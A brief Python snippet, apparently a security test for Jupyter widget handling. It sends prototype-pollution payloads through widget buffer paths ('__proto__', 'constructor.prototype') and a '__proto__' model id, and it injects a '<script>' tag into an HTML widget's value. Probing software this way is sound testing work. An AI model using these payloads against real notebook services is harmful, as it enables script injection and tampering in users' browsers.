"""Buffer paths that lead to the class of all objects."""

made = control("HTML", value="text", paths=[["__proto__", "polluted"], ["constructor", "prototype", "polluted"]],
               buffers=[b"1", b"2"])
update(made, paths=[["__proto__", "polluted"], ["value", "constructor", "prototype", "polluted"]], buffers=[b"1", b"2"])
widget(CONTROLS, "HTMLModel", "HTMLView", value=f"<script>{JS}</script>", **{"__proto__": {"polluted": 1}})
display({"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "__proto__"}}, raw=True)
